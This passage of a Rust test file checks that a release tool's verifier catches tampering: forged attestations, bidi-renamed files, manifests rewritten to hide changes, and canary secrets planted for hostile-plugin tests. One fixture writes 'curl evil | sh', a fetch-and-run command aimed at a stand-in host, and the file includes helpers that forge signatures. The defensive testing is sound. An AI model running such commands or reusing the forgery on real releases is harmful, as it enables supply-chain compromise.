                std::fs::write(dist.join("install.sh"), "curl evil | sh\n").unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &["FAIL  install.sh: not covered"],
        ),
        t(
            "the attestation's signature passed off as a file's signature",
            "verify: a file signature over DSSE pre-authentication bytes is refused",
            |dist, release| {
                let (pae, signature) = release.attestation_pae_and_signature();
                std::fs::write(dist.join("statement.txt"), pae).unwrap();
                std::fs::write(dist.join("statement.txt.sig"), signature).unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &["FAIL  statement.txt.sig: signs a DSSE pre-authentication encoding"],
        ),
        t(
            "a forged attestation signed by another key",
            "verify: the attestation must verify with a key given",
            |dist, release| {
                std::fs::write(dist.join(ARCHIVE), b"not the archive that was built").unwrap();
                release.forge_attestation(dist);
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0.intoto.jsonl: envelope 1: the DSSE signature does not verify with any key given",
                "FAIL  hello_1.0.0_linux_amd64.tar.gz: does not match",
            ],
        ),
        t(
            "a file renamed with a bidi control",
            "verify: names are checked and shown escaped",
            |dist, _| {
                std::fs::rename(
                    dist.join(ARCHIVE),
                    dist.join("hello_1.0.0_linux_amd64\u{202e}zg.rat.gz"),
                )
                .unwrap();
                cover_up(dist, &[]);
            },
            ALL_KEYS,
            &[
                "FAIL  hello_1.0.0_linux_amd64<U+202E>zg.rat.gz: its name holds",
                "named in hello_1.0.0_checksums.txt (line 1) but missing",
            ],
        ),
    ]
}

/// The signed release the tamperings start from, and its keys.
struct SignedRelease {
    dist: PathBuf,
    keys: PathBuf,
}

impl SignedRelease {
    /// examples/hello-go for linux/amd64, checksums signed with a P-256 (cosign) and
    /// a minisign key, provenance signed with a third key.
    fn build() -> SignedRelease {
        let keys = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-release-keys");
        let _ = std::fs::remove_dir_all(&keys);
        std::fs::create_dir_all(&keys).unwrap();
        support::run_script(
            &keys,
            "for k in cosign provenance attacker; do\n\
               openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out $k.key 2>/dev/null\n\
               openssl pkey -in $k.key -pubout -out $k.pub\n\
             done\n\
             minisign -G -W -f -p mini.pub -s mini.key > /dev/null",
        );
        let project = Project::from_example("hostile-release", "hello-go");
        let key = |k: &str| keys.join(k).display().to_string();
        project.write(
            "xhost.toml",
            format!(
                "[project]\nname = \"hello\"\nversion = \"1.0.0\"\n\n[build]\nmain = \"./cmd/hello\"\ntargets = [\"linux/amd64\"]\n\n\
                 [signing.keys.cosign]\nfile = \"{}\"\n\n[signing.keys.mini]\nfile = \"{}\"\n\n\
                 [signing.keys.provenance]\nfile = \"{}\"\n\n[provenance]\nkey = \"provenance\"\n\n\
                 [[stage]]\nname = \"compile\"\nplugin = \"builtin:go-build\"\ngrants = {{ exec = [\"go\"], source = true }}\n\n\
                 [[stage]]\nname = \"strip\"\nplugin = \"builtin:strip\"\n\n\
                 [[stage]]\nname = \"archive\"\nplugin = \"builtin:archive\"\ngrants = {{ source = true }}\n\n\
                 [[stage]]\nname = \"checksum\"\nplugin = \"builtin:checksum\"\n\n\
                 [[stage]]\nname = \"sign\"\nplugin = \"builtin:sign\"\ngrants = {{ signing = [\"cosign\", \"mini\"] }}\n\
                 [stage.config]\nkeys = [\"cosign\", \"mini\"]\n",
                key("cosign.key"),
                key("mini.key"),
                key("provenance.key"),
            ),
        );
        project.xhost(&["build", "."]).assert_ok();
        SignedRelease {
            dist: project.dist(),
            keys,
        }
    }

    /// The DSSE pre-authentication bytes of the release's attestation, and its
    /// signature as a cosign `.sig` would hold it.
    fn attestation_pae_and_signature(&self) -> (Vec<u8>, String) {
        let line = std::fs::read_to_string(self.dist.join(ATTESTATION)).unwrap();
        let envelope: serde_json::Value = serde_json::from_str(line.trim()).unwrap();
        let payload = base64(envelope["payload"].as_str().unwrap());
        let kind = envelope["payloadType"].as_str().unwrap();
        let mut pae = format!("DSSEv1 {} {kind} {} ", kind.len(), payload.len()).into_bytes();
        pae.extend_from_slice(&payload);
        let signature = envelope["signatures"][0]["sig"]
            .as_str()
            .unwrap()
            .to_string();
        (pae, signature)
    }

    /// Replaces the attestation with one whose statement names the files as they now
    /// are in `dist`, signed with the attacker's own key.
    fn forge_attestation(&self, dist: &Path) {
        let line = std::fs::read_to_string(dist.join(ATTESTATION)).unwrap();
        let envelope: serde_json::Value = serde_json::from_str(line.trim()).unwrap();
        let mut statement: serde_json::Value =
            serde_json::from_slice(&base64(envelope["payload"].as_str().unwrap())).unwrap();
        for subject in statement["subject"].as_array_mut().unwrap() {
            let name = subject["name"].as_str().unwrap().to_string();
            subject["digest"]["sha256"] = sha256(&dist.join(name)).into();
        }
        let payload = serde_json::to_vec(&statement).unwrap();
        let kind = "application/vnd.in-toto+json";
        let mut pae = format!("DSSEv1 {} {kind} {} ", kind.len(), payload.len()).into_bytes();
        pae.extend_from_slice(&payload);
        std::fs::write(dist.join("pae.bin"), &pae).unwrap();
        let signature = support::run_script(
            dist,
            &format!(
                "openssl dgst -sha256 -sign {} pae.bin | base64 -w0 && rm pae.bin",
                self.keys.join("attacker.key").display()
            ),
        );
        let forged = serde_json::json!({
            "payloadType": kind,
            "payload": base64_encode(&payload),
            "signatures": [{ "keyid": "", "sig": signature.trim() }],
        });
        std::fs::write(dist.join(ATTESTATION), format!("{forged}\n")).unwrap();
    }
}

/// Rewrites `artifacts.json` to list exactly the files now in `dist` with their
/// digests, as an attacker covering their tracks would, relabelling some kinds.
fn cover_up(dist: &Path, relabel: &[(&str, &str)]) {
    let path = dist.join("artifacts.json");
    let mut manifest: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let files = snapshot(dist);
    let artifacts = manifest["artifacts"].as_array_mut().unwrap();
    artifacts.retain(|a| files.contains_key(Path::new(a["path"].as_str().unwrap())));
    for (file, bytes) in &files {
        let name = file.to_str().unwrap();
        if name == "artifacts.json" {
            continue;
        }
        let digest = sha256(&dist.join(file));
        match artifacts.iter_mut().find(|a| a["path"] == name) {
            Some(entry) => {
                entry["sha256"] = digest.into();
                entry["size"] = bytes.len().into();
            }
            None => artifacts.push(serde_json::json!({
                "name": name, "path": name, "kind": "other", "target": null,
                "sha256": digest, "size": bytes.len(), "stage": "release",
                "plugin": { "name": "builtin:archive", "digest": null },
            })),
        }
    }
    for (file, kind) in relabel {
        if let Some(entry) = artifacts.iter_mut().find(|a| a["path"] == *file) {
            entry["kind"] = (*kind).into();
        }
    }
    std::fs::write(&path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
}

/// Drops the checksums file's line for the linux archive.
fn remove_sums_line(dist: &Path) {
    let sums = std::fs::read_to_string(dist.join(SUMS)).unwrap();
    let kept: String = sums
        .lines()
        .filter(|l| !l.ends_with(ARCHIVE))
        .map(|l| format!("{l}\n"))
        .collect();
    assert_ne!(kept, sums, "the checksums file did not list {ARCHIVE}");
    std::fs::write(dist.join(SUMS), kept).unwrap();
}

fn base64(text: &str) -> Vec<u8> {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD
        .decode(text)
        .unwrap()
}

fn base64_encode(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[test]
fn every_release_tampering_is_caught() {
    let release = SignedRelease::build();
    let verify = |dist: &Path, keys: &[&str], require_provenance: bool| {
        let mut args = vec!["verify".to_string(), dist.display().to_string()];
        for key in keys {
            args.extend(["--key".into(), release.keys.join(key).display().to_string()]);
        }
        if require_provenance {
            args.extend(["--require".into(), "provenance".into()]);
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        Project {
            dir: dist.parent().unwrap().to_path_buf(),
        }
        .xhost(&args)
    };
    // The release as built verifies; so does it without its provenance, the binary
    // beside the archive covered by the signed archive holding the same bytes.
    let run = verify(&release.dist, ALL_KEYS, true);
    assert_eq!(run.code, Some(0), "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("all good"), "{}", run.stdout);
    let copy = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-unattested");
    let _ = std::fs::remove_dir_all(&copy);
    support::copy_tree(&release.dist, &copy);
    std::fs::remove_file(copy.join(ATTESTATION)).unwrap();
    cover_up(&copy, &[]);
    assert!(copy.join("hello_linux_amd64/hello").is_file());
    let run = verify(&copy, &["cosign.pub", "mini.pub"], false);
    assert_eq!(run.code, Some(0), "{}{}", run.stdout, run.stderr);

    let mut rows = Vec::new();
    for tampering in tamperings() {
        let copy = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile-tampered");
        let _ = std::fs::remove_dir_all(&copy);
        support::copy_tree(&release.dist, &copy);
        (tampering.tamper)(&copy, &release);
        let run = verify(&copy, tampering.keys, tampering.require_provenance);
        let mut failures = Vec::new();
        if run.code != Some(1) {
            failures.push(format!("exit code {:?}, expected 1", run.code));
        }
        for needle in tampering.expect {
            if !run.stdout.contains(needle) {
                failures.push(format!("stdout lacks {needle:?}"));
            }
        }
        if let Some(c) = run
            .stdout
            .chars()
            .find(|c| (c.is_control() && *c != '\n') || is_invisible(*c))
        {
            failures.push(format!("the output holds {c:?} raw"));
        }
        if !failures.is_empty() {
            failures.push(format!("stdout was:\n{}{}", run.stdout, run.stderr));
        }
        let observed = run
            .stdout
            .lines()
            .find(|l| l.contains(tampering.expect[0]))
            .unwrap_or("(not found)")
            .chars()
            .take(110)
            .collect::<String>();
        rows.push(Row {
            name: tampering.name,
            layer: tampering.layer,
            expected: tampering.expect.join(" … "),
            observed: format!("exit {:?}: {}", run.code, observed.replace('|', "\\|")),
            failures,
        });
    }
    let ordered: Vec<&Row> = rows.iter().collect();
    // Numbered after the build attacks, as docs/SECURITY.md lists them.
    report(
        &ordered,
        attacks().len() + 1,
        "hostile-release-report.md",
        "tampering not caught as expected",
    );
}

/// Secrets planted where attacks look for them.
fn scene() -> Scene {
    let root = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile");
    let _ = std::fs::remove_dir_all(&root);
    let home = root.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), CANARY).unwrap();
    // Another project's tool cache, in the cache every test shares.
    let other = support::cache_dir().join("projects/0000000000000000/tools/sh/home/secret");
    std::fs::create_dir_all(other.parent().unwrap()).unwrap();
    std::fs::write(&other, CANARY).unwrap();
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let outside_root = root.join("outside");
    std::fs::create_dir_all(&outside_root).unwrap();
    let secret = root.join("secret.txt");
    std::fs::write(&secret, format!("{CANARY}\n")).unwrap();
    let key = root.join("release.pem");
    support::run_script(
        &root,
        "openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out release.pem 2>/dev/null",
    );
    let hostname = std::fs::read_to_string("/proc/sys/kernel/hostname")
        .unwrap()
        .trim()
        .to_string();
    // Where the machine shows none (every cgroup at `/`), a path nobody is in.
    let cgroup = std::fs::read_to_string("/proc/self/cgroup")
        .unwrap()
        .lines()
        .filter_map(|l| l.splitn(3, ':').nth(2))
        .max_by_key(|path| path.len())
        .filter(|path| path.len() > 1)
        .unwrap_or("/xhost-no-such-cgroup")
        .to_string();
    Scene {
        home,
        other,
        port,
        outside_root,
        secret,
        key,
        hostname,
        cgroup,
    }
}

/// Starts `xhost` in a session keyring holding `xhost-test-key` (the canary), as a
/// CI agent keeping credentials in the kernel keyring would.
const IN_SESSION_KEYRING: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if libc.syscall(250, 1, b"xhost-hostile") < 0:  # KEYCTL_JOIN_SESSION_KEYRING
    sys.exit("joining a session keyring: " + os.strerror(ctypes.get_errno()))
secret = os.environ["XHOST_TEST_CANARY"].encode()
if libc.syscall(248, b"user", b"xhost-test-key", secret, len(secret), -3) < 0:  # add_key to @s
    sys.exit("adding the key: " + os.strerror(ctypes.get_errno()))
os.execvp(sys.argv[1], sys.argv[1:])
"#;

/// Starts `xhost` with SIGHUP and SIGUSR1 ignored and SIGUSR2 blocked.
const WITH_SIGNALS_IGNORED: &str = r#"
import os, signal, sys
signal.signal(signal.SIGHUP, signal.SIG_IGN)
signal.signal(signal.SIGUSR1, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR2})
os.execvp(sys.argv[1], sys.argv[1:])
"#;

/// The program (and arguments) xhost is started through, for `launch`.
fn wrapper(launch: Launch, scene: &Scene) -> Vec<String> {
    let secret = scene.secret.display().to_string();
    let strings = |items: &[&str]| items.iter().map(|s| s.to_string()).collect();
    match launch {
        Launch::Plain => strings(&["env"]),
        Launch::Descriptor => strings(&["bash", "-c", "exec 7<\"$0\"; exec \"$@\"", &secret]),
        Launch::SessionKey => strings(&["python3", "-c", IN_SESSION_KEYRING]),
        Launch::Stdin => strings(&["bash", "-c", "exec \"$@\" < \"$0\"", &secret]),
        // `script` gives xhost a pseudo-terminal; stdout and stderr both go through it.
        Launch::Terminal => strings(&[
            "bash",
            "-c",
            "exec script -qefc \"$(printf '%q ' \"$@\")\" /dev/null",
            "terminal",
        ]),
        Launch::Signals => strings(&["python3", "-c", WITH_SIGNALS_IGNORED]),
        Launch::Umask => strings(&["bash", "-c", "umask 000; exec \"$@\"", "umask"]),
    }
}

fn run_attack(attack: &Attack, scene: &Scene) -> Row {
    let slug: String = attack
        .name
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .collect();
    let project = Project::new(&format!("hostile-{}", &slug[..slug.len().min(60)]));
    let outside = scene.outside_root.join(&slug);
    let config = attack
        .config
        .replace("{hostname}", &scene.hostname)
        .replace("{cgroup}", &scene.cgroup)
        .replace("{home}", &scene.home.display().to_string())
        .replace("{other}", &scene.other.display().to_string())
        .replace("{src}", &project.dir.display().to_string())
        .replace("{port}", &scene.port.to_string())
        .replace("{outside}", &outside.display().to_string())
        // A pattern matching the canary without containing it, as the command line
        // is logged.
        .replace(
            "{canary_pattern}",
            &format!(
                "{}[{}]",
                &CANARY[..CANARY.len() - 1],
                &CANARY[CANARY.len() - 1..]
            ),
        );
    write_project(&project, attack, &config, scene);
    if let Some(prepare) = attack.prepare {
        prepare(&project, &outside);
    }
    let source_before = source_snapshot(&project);
    let dist_before = project.seed_dist();
    let mut run = project.xhost_via(
        &wrapper(attack.launch, scene),
        &["build", "."],
        &[
            ("HOME", scene.home.to_str().unwrap()),
            ("XHOST_TEST_CANARY", CANARY),
            // Plain lines even on a terminal, so the output can be read back.
            ("XHOST_PLAIN", "1"),
        ],
    );
    if attack.launch == Launch::Terminal {
        // The terminal carried both streams, with its line endings.
        run.stderr = std::mem::take(&mut run.stdout).replace('\r', "");
    }
    let mut failures = check(&run, attack);
    if snapshot(&project.dist()) != dist_before {
        failures.push("the previous dist/ changed".into());
    }
    if source_snapshot(&project) != source_before {
        failures.push("the source tree changed".into());
    }
    if outside.exists() {
        failures.push(format!("{} was written", outside.display()));
    }
    if run.stderr.contains(CANARY) || run.stdout.contains(CANARY) {
        failures.push("a secret reached the output".into());
    }
    Row {
        name: attack.name,
        layer: attack.layer,
        expected: attack.expect.join(" … "),
        observed: observed(&run, attack),
        failures,
    }
}

fn write_project(project: &Project, attack: &Attack, config: &str, scene: &Scene) {
    for plugin in ["probe", "exec-probe", "signer-probe"] {
        std::fs::copy(test_plugin(plugin), project.path(&format!("{plugin}.wasm"))).unwrap();
    }
    let wasm = test_plugin(attack.plugin);
    let file = format!("{}.wasm", attack.plugin);
    project.write("go.mod", "module example.com/victim\n\ngo 1.21\n");
    project.write("main.go", "package main\n\nfunc main() {}\n");
    project.write("syscalls.py", include_str!("support/syscalls.py"));
    let fill = |text: &str| {
        text.replace("{key}", &scene.key.display().to_string())
            .replace("{probe_sha}", &sha256(&test_plugin("probe")))
    };
    project.write(
        "xhost.toml",
        format!(
            "[project]\nname = \"victim\"\nversion = \"1.0.0\"\n\n[build]\ntargets = [\"linux/amd64\"]\n\n{}\n{}\n\
             [[stage]]\nname = \"attack\"\nplugin = \"{file}\"\nsha256 = \"{}\"\n{}\n\n[stage.config]\n{config}\n\n{}",
            fill(attack.project),
            fill(attack.before),
            sha256(&wasm),
            attack.stage,
            fill(attack.after),
        ),
    );
}

/// The standing promises: a clean failure naming the stage, with the expected text.
fn check(run: &Run, attack: &Attack) -> Vec<String> {
    let mut failures = Vec::new();
    if run.code != Some(1) {
        failures.push(format!("exit code {:?}, expected 1", run.code));
    }
    if !run.stderr.contains(&format!("stage `{}`", attack.failing)) {
        failures.push(format!(
            "the error does not name stage `{}`",
            attack.failing
        ));
    }
    // Whatever a plugin or program said, nothing reaches the terminal raw.
    if let Some(c) = (run.stderr.chars().chain(run.stdout.chars()))
        .find(|c| (c.is_control() && *c != '\n') || is_invisible(*c))
    {
        failures.push(format!("the output holds {c:?} raw"));
    }
    if run.stderr.contains("ESCAPED") {
        failures.push("the probe got through".into());
    }
    for needle in attack.expect {
        if !run.stderr.contains(needle) {
            failures.push(format!("stderr lacks {needle:?}"));
        }
    }
    if !failures.is_empty() {
        failures.push(format!("stderr was:\n{}", run.stderr));
    }
    failures
}

/// The line of stderr showing the expected outcome, shortened for the table.
fn observed(run: &Run, attack: &Attack) -> String {
    let line = run
        .stderr
        .lines()
        .find(|l| l.contains(attack.expect[0]))
        .or_else(|| run.stderr.lines().find(|l| l.starts_with("error:")))
        .unwrap_or("(no error)")
        .trim();
    let start = line.find(attack.expect[0]).unwrap_or(0);
    let shown: String = line[start..].chars().take(110).collect();
    format!("exit {:?}: {}", run.code, shown.replace('|', "\\|"))
}

fn source_snapshot(project: &Project) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut files = snapshot(&project.dir);
    files.retain(|path, _| !path.starts_with("dist"));
    files
}

/// The table of `rows`, numbered from `first`.
fn render(rows: &[&Row], first: usize) -> String {
    let mut table = String::from(
        "| # | attack | stopped by | expected | observed | result |\n|---|---|---|---|---|---|\n",
    );
    for (i, row) in rows.iter().enumerate() {
        table.push_str(&format!(
            "| {} | {} | {} | {} | {} | {} |\n",
            first + i,
            row.name,
            row.layer,
            row.expected.replace('|', "\\|"),
            row.observed,
            if row.failures.is_empty() {
                "blocked"
            } else {
                "**FAILED**"
            }
        ));
    }
    table
}
